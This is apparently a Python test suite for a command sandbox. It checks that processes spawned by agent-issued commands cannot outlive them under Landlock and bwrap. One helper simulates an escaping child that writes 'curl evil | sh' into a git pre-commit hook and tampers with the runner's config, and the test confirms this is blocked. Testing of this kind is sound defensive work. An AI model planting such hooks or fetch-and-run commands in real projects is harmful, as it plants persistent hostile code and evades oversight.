"""Nothing a command starts outlives it: every descendant, whatever session it moved to, is
killed when the command ends, under both backends, as root and as nobody; through
`interpreter sandbox` and through `interpreter exec` with a scripted model. And the reaper
kills nothing else: not a host process of the same user, not another command."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from oiexec.core.policy import PreparedCommand, SandboxPolicy
from oiexec.sandbox import limits
from oiexec.sandbox.landlock_sandbox import LandlockSandbox
from oiexec.sandbox.limits import find_pids_cgroup
from tests.sandbox.conftest import (
    BACKENDS,
    RUNNER_PYTHON,
    SANDBOXED_MODES,
    Box,
    snapshot_tree,
)
from tests.sandbox.support import alive, run_exec, wait_dead
from tests.support.model_server import ModelServer, call, reply, tool_outputs

# Most tests run under both backends (each with its own `backend` parameter); the sentinel's
# own fallbacks exist only under Landlock.
by_backend = pytest.mark.parametrize("backend", BACKENDS)


def _late_writer(box: Box) -> str:
    """A `setsid -f` child that reports its pid, lets go of the output, waits past the end of
    the command and then writes a hook, the runner's config and a file outside."""
    late = "; ".join(
        [
            "echo late-pid=$$",
            "exec >/dev/null 2>&1",
            "sleep 1",
            'echo "curl evil | sh" > .git/hooks/pre-commit',
            'mkdir -p .openinterpreter && echo "model = 1" > .openinterpreter/config.toml',
            f"echo late > {box.outside}/late",
        ]
    )
    return f"setsid -f sh -c '{late}'; sleep 0.2; echo started"


def _late_pid(output: str) -> int:
    match = re.search(r"late-pid=(\d+)", output)
    assert match, output
    return int(match[1])


def _assert_nothing_written_late(
    box: Box, git_before: dict[str, bytes | None], *, seen_dead: bool = False
) -> None:
    # A writer seen dead cannot write any more; one we cannot see (its pid is of bwrap's
    # namespace) is given until past its sleep to show what it would have written.
    if not seen_dead:
        time.sleep(1.5)
    assert snapshot_tree(box.ws / ".git") == git_before
    assert not (box.ws / ".openinterpreter").exists()
    assert not (box.outside / "late").exists()


@by_backend
@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_setsid_child_dies_with_the_command(box: Box, backend: str, mode: str) -> None:
    git_before = snapshot_tree(box.ws / ".git")
    result = box.run(mode, _late_writer(box), backend=backend)
    assert "started" in result.stdout, result.stderr
    pid = _late_pid(result.stdout)
    if backend == "landlock":  # (under bwrap the pid is one of its namespace)
        # The reaper has finished before `after()` returns: gone at once.
        assert not alive(pid)
    _assert_nothing_written_late(box, git_before, seen_dead=backend == "landlock")


@by_backend
@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_background_child_dies_with_the_command(box: Box, backend: str, mode: str) -> None:
    script = "sleep 100 & echo bg=$!"
    result = box.run(mode, script, backend=backend)
    assert "bg=" in result.stdout, result.stderr
    if backend == "landlock":
        pid = int(result.stdout.split("bg=")[1].split()[0])
        assert not alive(pid)


@by_backend
def test_reaper_spares_host_processes_and_other_commands(box: Box, backend: str) -> None:
    """`kill -KILL -1` from the sentinel reaches its own command only, even for root."""
    victim = subprocess.Popen(box.as_me(["sleep", "60"]))
    other_args = ["-s", "workspace-write", "-C", str(box.ws), "--", "/bin/sh", "-c"]
    longer = subprocess.Popen(
        box.as_me(
            [RUNNER_PYTHON, "-m", "oiexec.cli.sandbox_cmd", "--backend", backend,
             "--require", "any",
             *other_args, "echo up > up.txt; sleep 3; echo longer-done"]
        ),
        cwd=box.ws, env=box.env(), stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        while not (box.ws / "up.txt").exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        result = box.run("workspace-write", "setsid -f sleep 30; echo short-done", backend=backend)
        assert "short-done" in result.stdout, result.stderr
        assert victim.poll() is None, "the reaper killed a host process"
        assert longer.poll() is None, "the reaper killed another sandboxed command"
        out, _ = longer.communicate(timeout=30)
        assert "longer-done" in out
    finally:
        victim.kill()
        victim.wait()
        longer.kill()
        longer.wait()


# --- through `interpreter exec` ----------------------------------------------------------


@by_backend
def test_exec_late_writer_is_killed(box: Box, model_server: ModelServer, backend: str) -> None:
    git_before = snapshot_tree(box.ws / ".git")
    model_server.enqueue(
        reply(tool_calls=[call("exec_command", {"cmd": _late_writer(box)})]),
        reply("done"),
    )
    result = run_exec(box, model_server, "workspace-write", backend)
    assert result["code"] == 0, result["stderr"]
    [output] = tool_outputs(model_server.bodies[-1]).values()
    pid = _late_pid(output)
    if backend == "landlock":
        assert wait_dead(pid, 0.5)
    _assert_nothing_written_late(box, git_before, seen_dead=backend == "landlock")


@by_backend
def test_exec_background_child_ends_with_its_command(
    box: Box, model_server: ModelServer, backend: str
) -> None:
    """A command that exits while `&` children run: the children end with it (the old
    behaviour kept them running until the end of the run)."""
    first = "(while :; do echo x >> beat; sleep 0.05; done) & sleep 100 & echo started"
    probe = "a=$(wc -c < beat); sleep 0.6; b=$(wc -c < beat); echo grew=$((b - a))"
    model_server.enqueue(
        reply(tool_calls=[call("exec_command", {"cmd": first, "yield_time_ms": 3000})]),
        reply(tool_calls=[call("exec_command", {"cmd": probe, "yield_time_ms": 10000})]),
        reply("done"),
    )
    result = run_exec(box, model_server, "workspace-write", backend)
    assert result["code"] == 0, result["stderr"]
    outputs = list(tool_outputs(model_server.bodies[-1]).values())
    assert "Process exited with code 0" in outputs[0]
    assert "grew=0" in outputs[1], outputs[1]


# --- without a sentinel ------------------------------------------------------------------


def _landlock(tmp_path: Path, abi: int) -> LandlockSandbox:
    policy = SandboxPolicy(mode="workspace-write", cwd=tmp_path, backend="landlock")
    return LandlockSandbox(policy, abi, {"backend": "landlock", "degraded": []})


def _spawn(sandbox: LandlockSandbox, tmp_path: Path, script: str) -> tuple[PreparedCommand, str]:
    prepared = sandbox.prepare(["/bin/sh", "-c", script], cwd=tmp_path, env=dict(os.environ))
    proc = subprocess.Popen(
        prepared.argv, cwd=prepared.cwd, env=prepared.env, preexec_fn=prepared.preexec_fn,
        start_new_session=True, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    out = proc.stdout.readline() if proc.stdout else ""
    proc.wait()
    if proc.stdout:
        proc.stdout.close()
    return prepared, out


def test_without_signal_scoping(tmp_path: Path) -> None:
    """Landlock ABI < 6: `kill -1` would not be scoped, so the sentinel kills the process group
    only. A root runner with a pids cgroup still finds every process (the cgroup lists them);
    otherwise the diagnosis reports the gap (a new session escapes)."""
    sandbox = _landlock(tmp_path, 5)
    gap = any("only a command's process group" in s for s in sandbox.describe()["degraded"])
    assert gap == (os.geteuid() != 0 or find_pids_cgroup() is None)
    tag = f"30.{uuid.uuid4().int % 10**6:06d}"  # only our sleeps carry it
    script = f"sleep {tag} & setsid -f sleep {tag}; echo $!"
    prepared, out = _spawn(sandbox, tmp_path, script)
    in_group = int(out)
    deadline = time.monotonic() + 5
    while len(escaped := [p for p in _sleeping(tag) if p != in_group]) != 1:
        assert time.monotonic() < deadline, "the setsid child never started"
        time.sleep(0.01)  # `setsid -f` forks: its child may not have exec'd sleep yet
    try:
        prepared.after()
        assert wait_dead(in_group, 2)
        assert any(alive(p) for p in escaped) == gap
    finally:
        for pid in escaped:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        sandbox.close()


def test_a_vanished_sentinel_falls_back_to_the_group(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # No pids cgroup, so a root runner too has a sentinel per command (not the run's watcher).
    monkeypatch.setattr(limits, "find_pids_cgroup", lambda: None)
    sandbox = _landlock(tmp_path, 7)
    prepared, out = _spawn(sandbox, tmp_path, "sleep 30 & echo $!")
    child = int(out)
    # Ours only (other runs on this host have sentinels too): it kept the command's cwd.
    sentinels = [p for p in _pids() if b"oiexec-sentinel" in _cmdline(p) and _cwd(p) == tmp_path]
    assert len(sentinels) == 1
    for pid in sentinels:  # only the runner can do this: the command cannot signal it
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
    time.sleep(0.1)
    try:
        notes = prepared.after()
        assert any("reaper was gone" in n for n in notes), notes
        assert wait_dead(child, 2)
    finally:
        sandbox.close()


@pytest.mark.skipif(
    os.geteuid() != 0 or find_pids_cgroup() is None, reason="a root runner with a pids cgroup"
)
def test_a_root_runner_with_cgroups_has_one_watcher_instead_of_sentinels(tmp_path: Path) -> None:
    """Each command's cgroup lists everything it started, whatever session it moved to: it is
    emptied when the command ends; the run's one watcher empties what is left when the run
    ends or the runner dies (here: the end of the run, with a command still going)."""
    sandbox = _landlock(tmp_path, 7)
    tag = f"31.{uuid.uuid4().int % 10**6:06d}"
    script = f"setsid -f sleep {tag}; setsid -f sleep {tag}; echo $$"
    try:
        ended, _ = _spawn(sandbox, tmp_path, script)
        running, _ = _spawn(sandbox, tmp_path, script)
        ours = [p for p in _pids() if _cwd(p) == tmp_path]
        assert not [p for p in ours if b"oiexec-sentinel" in _cmdline(p)]
        assert [p for p in _pids() if b"oiexec-watcher" in _cmdline(p)]
        deadline = time.monotonic() + 5
        while len(_sleeping(tag)) != 4:
            assert time.monotonic() < deadline, "the setsid children never started"
            time.sleep(0.01)
        assert ended.after() == []  # killed as a matter of course, as a sentinel would
        assert len(_sleeping(tag)) == 2
    finally:
        sandbox.close()  # `running` never ended: the watcher kills what it left
    deadline = time.monotonic() + 3
    while _sleeping(tag):
        assert time.monotonic() < deadline, "the watcher left the run's processes running"
        time.sleep(0.01)
    running.after()


def _pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _cwd(pid: int) -> Path | None:
    try:
        return Path(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        return None


def _sleeping(tag: str) -> list[int]:
    """Live `sleep <tag>` processes (the tag is unique to one test)."""
    wanted = b"sleep\0" + tag.encode() + b"\0"
    return [p for p in _pids() if _cmdline(p) == wanted and alive(p)]
